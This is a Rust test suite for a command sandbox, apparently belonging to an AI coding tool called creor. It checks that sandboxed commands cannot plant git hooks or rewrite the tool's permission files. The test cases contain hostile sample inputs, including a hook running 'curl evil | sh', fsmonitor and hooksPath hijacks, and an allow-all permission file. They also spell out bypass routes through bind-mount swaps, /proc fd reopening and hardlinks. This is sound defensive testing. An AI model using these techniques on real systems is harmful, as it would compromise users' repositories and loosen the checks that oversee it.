//! Persistence: the command must not plant anything that runs or loosens policy later — git
//! hooks, git config (`core.hooksPath`, `core.fsmonitor`), `creor.json`, `creor.local.json`,
//! `.creor/`. Each case checks the host file afterwards, byte for byte.

use std::fs;
use std::path::{Path, PathBuf};

use crate::support::run::snapshot;
use crate::support::{host, Case, Outcome, Run, REFUSED_WRITE};
use crate::{case, ensure};

pub fn cases() -> Vec<Case> {
    vec![
        case!("persist", overwrite_pre_commit_hook),
        case!("persist", create_new_git_hook),
        case!("persist", chmod_git_hook),
        case!("persist", rename_hooks_dir_away),
        case!("persist", append_git_config),
        case!("persist", git_config_hooks_path_via_git),
        case!("persist", rename_git_dir_away),
        case!("persist", swap_in_fresh_git_dir),
        case!("persist", overwrite_creor_json),
        case!("persist", rename_creor_json_away),
        case!("persist", unlink_creor_json),
        case!("persist", overwrite_creor_local_json),
        case!("persist", create_file_in_creor_dir),
        case!("persist", rename_creor_dir_away),
        case!("persist", create_creor_json_when_absent),
        case!("persist", create_creor_local_json_when_absent),
        case!("persist", create_hooks_dir_when_absent),
        case!("persist", truncate_creor_json),
        case!("persist", reopen_creor_json_for_writing_via_proc_fd),
        case!("persist", hardlink_git_config_then_write),
        case!("persist", hardlink_creor_json_then_write),
        case!("persist", user_config_in_home_unwritable),
        case!("persist", managed_config_unwritable),
    ]
}

const HOOK: &str = "#!/bin/sh\n# original hook\nexit 0\n";
const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
const CREOR_JSON: &str = "{ \"permissions\": { \"*\": \"ask\", \"bash\": \"deny\" } }\n";
const EVIL: &str = "{ \"permissions\": { \"*\": \"allow\" } }\n";

/// A project laid out like a real repository with creor config, all owned by the identity.
fn repo(r: &Run, with_creor: bool, with_hooks: bool) -> Result<(), String> {
    r.write(".git/HEAD", "ref: refs/heads/main\n")?;
    r.write(".git/config", CONFIG)?;
    fs::create_dir_all(r.project.join(".git/objects")).map_err(|e| e.to_string())?;
    fs::create_dir_all(r.project.join(".git/refs/heads")).map_err(|e| e.to_string())?;
    if with_hooks {
        r.write(".git/hooks/pre-commit", HOOK)?;
        crate::support::world::set_mode(&r.project.join(".git/hooks/pre-commit"), 0o755)?;
    }
    if with_creor {
        r.write("creor.json", CREOR_JSON)?;
        r.write("creor.local.json", "{}\n")?;
        r.write(".creor/state.json", "{}\n")?;
    }
    r.own()
}

/// Snapshot of every protected file, to compare after the attack.
struct Guarded(Vec<(PathBuf, Option<Vec<u8>>)>);

impl Guarded {
    fn take(r: &Run) -> Guarded {
        let files = [
            ".git/hooks/pre-commit",
            ".git/config",
            ".git/HEAD",
            "creor.json",
            "creor.local.json",
            ".creor/state.json",
        ];
        Guarded(
            files
                .iter()
                .map(|f| (r.project.join(f), snapshot(&r.project.join(f))))
                .collect(),
        )
    }
    fn check(&self, context: &dyn std::fmt::Display) -> Outcome {
        for (p, before) in &self.0 {
            host::unchanged(p, before).map_err(|e| format!("{e}\n{context}"))?;
        }
        Ok(())
    }
}

fn attempt(r: &mut Run, args: &[&str], absent_after: &[&str]) -> Outcome {
    let g = Guarded::take(r);
    let out = r.probe_in(args);
    let verdict = out.refused(REFUSED_WRITE);
    g.check(&out)?;
    for rel in absent_after {
        host::absent(&r.project.join(rel)).map_err(|e| format!("{e}\n{out}"))?;
    }
    verdict
}

fn overwrite_pre_commit_hook(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &[
            "write",
            &r.p(".git/hooks/pre-commit"),
            "#!/bin/sh\ncurl evil | sh\n",
        ],
        &[],
    )
}

fn create_new_git_hook(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &[
            "write",
            &r.p(".git/hooks/post-checkout"),
            "#!/bin/sh\necho pwned\n",
        ],
        &[".git/hooks/post-checkout"],
    )
}

fn chmod_git_hook(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    crate::support::world::set_mode(&r.project.join(".git/hooks/pre-commit"), 0o644)?;
    let out = r.probe_in(&["chmod", &r.p(".git/hooks/pre-commit"), "755"]);
    let mode = fs::metadata(r.project.join(".git/hooks/pre-commit"))
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
        .unwrap_or(0);
    ensure!(
        mode == 0o644,
        "HOST STATE CHANGED: hook mode is now {mode:o}\n{out}"
    );
    out.refused(REFUSED_WRITE)
}

fn rename_hooks_dir_away(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &["rename", &r.p(".git/hooks"), &r.p(".git/hooks-old")],
        &[".git/hooks-old"],
    )
}

fn append_git_config(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &[
            "append",
            &r.p(".git/config"),
            "[core]\n\thooksPath = /tmp/evil\n",
        ],
        &[],
    )
}

fn git_config_hooks_path_via_git(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    let g = Guarded::take(r);
    let out = r
        .exec(&[
            "git",
            "-C",
            &r.p(""),
            "config",
            "core.fsmonitor",
            "touch /tmp/pwned",
        ])
        .output();
    g.check(&out)?;
    ensure!(
        out.code() != 0,
        "git config succeeded inside the sandbox\n{out}"
    );
    ensure!(
        out.stderr.contains("Read-only")
            || out.stderr.contains("ermission denied")
            || out.stderr.contains("could not lock")
            || out.stderr.contains("Device or resource busy"),
        "git failed, but not because the write was refused\n{out}"
    );
    Ok(())
}

fn rename_git_dir_away(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &["rename", &r.p(".git"), &r.p(".git-old")],
        &[".git-old"],
    )
}

/// The bind-mount bypass: move `.git` aside, build a new one with a writable hooks dir.
/// Whatever the kernel allowed, the host's `.git/hooks/pre-commit` must still be the original.
fn swap_in_fresh_git_dir(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    let g = Guarded::take(r);
    let script = format!(
        "cd {p} && mv .git .git-old; mkdir -p .git/hooks && cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/ ; \
         printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; printf '[core]\\n\\thooksPath = /tmp\\n' > .git/config; ls -la .git .git/hooks",
        p = r.project.display()
    );
    let out = r.sh(&script);
    g.check(&out)?;
    host::absent(&r.project.join(".git-old")).map_err(|e| format!("{e}\n{out}"))
}

fn overwrite_creor_json(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(r, &["write", &r.p("creor.json"), EVIL], &[])
}

fn rename_creor_json_away(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &["rename", &r.p("creor.json"), &r.p("creor.json.bak")],
        &["creor.json.bak"],
    )
}

fn unlink_creor_json(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(r, &["unlink", &r.p("creor.json")], &[])
}

fn overwrite_creor_local_json(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(r, &["write", &r.p("creor.local.json"), EVIL], &[])
}

fn create_file_in_creor_dir(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &["write", &r.p(".creor/evil.json"), EVIL],
        &[".creor/evil.json"],
    )
}

fn rename_creor_dir_away(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(
        r,
        &["rename", &r.p(".creor"), &r.p(".creor-old")],
        &[".creor-old"],
    )
}

/// A project without a creor.json must not gain one: it would loosen the next session.
fn create_creor_json_when_absent(r: &mut Run) -> Outcome {
    created_protected_file_is_reverted(r, "creor.json")
}

fn create_creor_local_json_when_absent(r: &mut Run) -> Outcome {
    created_protected_file_is_reverted(r, "creor.local.json")
}

/// A protected file that did not exist has no dentry to bind read-only, so the write inside
/// succeeds; creor must remove it once the sandbox's last process is gone, and say so.
fn created_protected_file_is_reverted(r: &mut Run, name: &str) -> Outcome {
    repo(r, false, true)?;
    let out = r.sh(&format!(
        "printf '%s' '{evil}' > {p}/{name}",
        evil = EVIL.trim(),
        p = r.project.display()
    ));
    ensure!(
        !r.project.join(name).exists(),
        "HOST STATE CHANGED: {name} created inside the sandbox survived the run\n{out}"
    );
    ensure!(
        out.stderr
            .contains(&format!("removed {}", r.project.join(name).display())),
        "the removal of {name} was not reported\n{out}"
    );
    Ok(())
}

fn create_hooks_dir_when_absent(r: &mut Run) -> Outcome {
    repo(r, true, false)?;
    let out = r.sh(&format!(
        "mkdir {p}/.git/hooks && printf '#!/bin/sh\\necho pwned\\n' > {p}/.git/hooks/pre-commit; {probe} read {p}/.git/hooks/pre-commit",
        p = r.project.display(),
        probe = r.probe()
    ));
    let hook = r.project.join(".git/hooks/pre-commit");
    ensure!(
        !Path::new(&hook).exists(),
        "HOST STATE CHANGED: a pre-commit hook was planted in a repo that had no hooks dir\n{out}"
    );
    Ok(())
}

fn truncate_creor_json(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(r, &["truncate", &r.p("creor.json")], &[])
}

/// A read-only open is allowed; upgrading it through `/proc/self/fd/N` must not be.
fn reopen_creor_json_for_writing_via_proc_fd(r: &mut Run) -> Outcome {
    repo(r, true, true)?;
    attempt(r, &["reopenw", &r.p("creor.json")], &[])
}

/// A hard link shares the inode: if `link()` worked, writing the new name would rewrite the
/// protected file. Either step may be refused; the host file must be unchanged.
fn hardlink_then_write(r: &mut Run, rel: &str) -> Outcome {
    repo(r, true, true)?;
    let g = Guarded::take(r);
    let alias = r.p("alias-of-protected");
    let first = r.probe_in(&["link", &r.p(rel), &alias]);
    let second = r.probe_in(&["append", &alias, "\n[core]\n\thooksPath = /tmp\n"]);
    g.check(&format!("{first}\n{second}"))?;
    if first.first().starts_with("ok") {
        second.refused(REFUSED_WRITE)
    } else {
        first.refused(&["EXDEV", "EPERM", "EACCES", "EROFS"])
    }
}

fn hardlink_git_config_then_write(r: &mut Run) -> Outcome {
    hardlink_then_write(r, ".git/config")
}

fn hardlink_creor_json_then_write(r: &mut Run) -> Outcome {
    hardlink_then_write(r, "creor.json")
}

/// `~/.config/creor/creor.json` applies to every project: rewriting it loosens them all.
fn user_config_in_home_unwritable(r: &mut Run) -> Outcome {
    let dir = r.world.home.join(".config/creor");
    fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    let cfg = dir.join("creor.json");
    fs::write(&cfg, CREOR_JSON).map_err(|e| e.to_string())?;
    crate::support::world::chown_tree(
        &r.world.home.join(".config"),
        r.world.id.uid,
        r.world.id.gid,
    )?;
    let before = snapshot(&cfg);
    let out = r.probe_in(&["write", &cfg.display().to_string(), EVIL]);
    let verdict = out.refused(REFUSED_WRITE);
    host::unchanged(&cfg, &before).map_err(|e| format!("{e}\n{out}"))?;
    let _ = fs::remove_dir_all(r.world.home.join(".config"));
    verdict
}

/// `/etc/creor/creor.json` is the administrator's: never writable from inside. As root the
/// harness installs one (and removes it afterwards) so the attack has a target.
fn managed_config_unwritable(r: &mut Run) -> Outcome {
    let dir = Path::new("/etc/creor");
    let cfg = dir.join("creor.json");
    // SAFETY: geteuid cannot fail.
    let root = unsafe { libc::geteuid() } == 0;
    let created_dir = root && !dir.exists();
    let created_file = root && !cfg.exists();
    if created_file {
        fs::create_dir_all(dir).map_err(|e| e.to_string())?;
        fs::write(&cfg, CREOR_JSON).map_err(|e| e.to_string())?;
    }
    let before = snapshot(&cfg);
    let out = r.probe_in(&["write", &cfg.display().to_string(), EVIL]);
    let verdict = out.refused(REFUSED_WRITE);
    let unchanged = host::unchanged(&cfg, &before).map_err(|e| format!("{e}\n{out}"));
    if created_file {
        let _ = fs::remove_file(&cfg);
    }
    if created_dir {
        let _ = fs::remove_dir(dir);
    }
    unchanged?;
    verdict
}
